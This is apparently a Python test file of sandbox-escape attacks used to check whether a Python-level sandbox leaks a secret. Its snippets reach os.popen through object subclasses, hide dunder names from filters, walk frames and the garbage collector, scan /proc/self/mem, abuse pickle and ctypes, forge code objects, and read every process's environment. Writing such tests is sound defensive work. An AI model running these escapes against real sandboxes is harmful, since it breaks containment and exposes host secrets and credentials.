"""Tricks of the language, against those who guard Python with Python."""

from tests.attacks.attack import Attack


def _leak(name: str, code: str) -> Attack:
    return Attack(name=f"language: {name}", oracle="leak", code=code, ways=("executor",))


ATTACKS = (
    _leak(
        "subclasses of object lead to open files",
        """
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        print(kind.__init__.__globals__["popen"]("cat " + SECRET).read())
""",
    ),
    _leak(
        "names of attributes are put together when it runs",
        """
two = chr(95) * 2
base = getattr(getattr("", two + "class" + two), two + "mro" + two)[1]
print(getattr(base, two + "subclasses" + two)
      and getattr(sys.modules["builtins"], "op" + "en")(SECRET).read())
""",
    ),
    _leak(
        "a generator's frame leads back to the builtins",
        """
def walk():
    yield mine.gi_frame.f_back
mine = walk()
frame = next(mine)
while frame.f_back:
    frame = frame.f_back
print(frame.f_builtins["open"](SECRET).read())
""",
    ),
    _leak(
        "frames of other threads and callers are searched for the host's variables",
        """
frames = list(sys._current_frames().values())
for frame in frames:
    while frame:
        print([v for v in {**frame.f_globals, **frame.f_locals}.values() if isinstance(v, str) and "HOST" + "VAR" in v])
        frame = frame.f_back
for module in list(sys.modules.values()):
    print([v for v in vars(module).values() if isinstance(v, str) and "HOST" + "VAR" in v])
""",
    ),
    _leak(
        "the collector's objects are searched for the host's variables",
        """
import gc
for thing in gc.get_objects():
    if type(thing) is dict:
        for value in list(thing.values()):
            if type(value) is str and "HOST" + "VAR-" in value:
                print(value)
""",
    ),
    _leak(
        "its own memory is searched for what a parent left there",
        """
wanted = [a + b for a, b in ((b"HOST", b"VAR-"), (b"HOST", b"MEM-"), (b"ENV", b"TOK-"), (b"SEC", b"RET-"))]
memory = open("/proc/self/mem", "rb", 0)
for line in open("/proc/self/maps"):
    span, rights = line.split()[:2]
    start, stop = (int(end, 16) for end in span.split("-"))
    if rights.startswith("rw") and "[v" not in line:
        try:
            memory.seek(start)
            content = memory.read(min(stop - start, 32 << 20))
        except (OSError, ValueError, OverflowError):
            continue
        for word in wanted:
            at = content.find(word)
            while at >= 0:
                print(content[at:at + 40])
                at = content.find(word, at + 1)
""",
    ),
    _leak("a format string walks from a tool to the host", "print('{0.__globals__[HOST_SECRET]}'.format(host_tool))"),
    _leak(
        "a pickle opens the file",
        """
import pickle
class Opener:
    def __reduce__(self):
        return subprocess.getoutput, ("cat " + SECRET,)
print(pickle.loads(pickle.dumps(Opener())))
""",
    ),
    _leak(
        "C opens the file",
        """
descriptor = libc.open(SECRET.encode(), 0)
buffer = ctypes.create_string_buffer(100)
libc.read(descriptor, buffer, 99)
print(buffer.value)
""",
    ),
    _leak(
        "the module below os opens the file",
        "import posix\nprint(posix.read(posix.open(SECRET, posix.O_RDONLY), 100))",
    ),
    _leak(
        "a program is started below subprocess",
        """
import posix
reader, writer = os.pipe()
pid = posix.posix_spawn("/bin/cat", ["cat", SECRET], {}, file_actions=[(posix.POSIX_SPAWN_DUP2, writer, 1)])
os.waitpid(pid, 0)
os.close(writer)
print(os.read(reader, 100))
""",
    ),
    _leak(
        "a function is made of a forged code object",
        """
def harmless():
    return len("x")
def wanted():
    return open(SECRET).read()
print(type(harmless)(harmless.__code__.replace(
    co_code=wanted.__code__.co_code, co_names=wanted.__code__.co_names, co_stacksize=wanted.__code__.co_stacksize),
    {"__builtins__": __builtins__, "SECRET": SECRET})())
""",
    ),
    _leak(
        "the interpreter starts itself anew with no rules",
        "print(subprocess.run([sys.executable, '-I', '-S', '-c', f'print(open({SECRET!r}).read())'],"
        " capture_output=True, text=True).stdout)",
    ),
    _leak("the environment holds the host's secrets", "print(dict(os.environ), open('/proc/self/environ').read())"),
    _leak(
        "the environment of every process is read",
        """
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        content = open(f"/proc/{pid}/environ", "rb").read()
        print(content[content.index(b"ENV" + b"TOK-"):][:40])
    except (OSError, ValueError):
        pass
""",
    ),
)
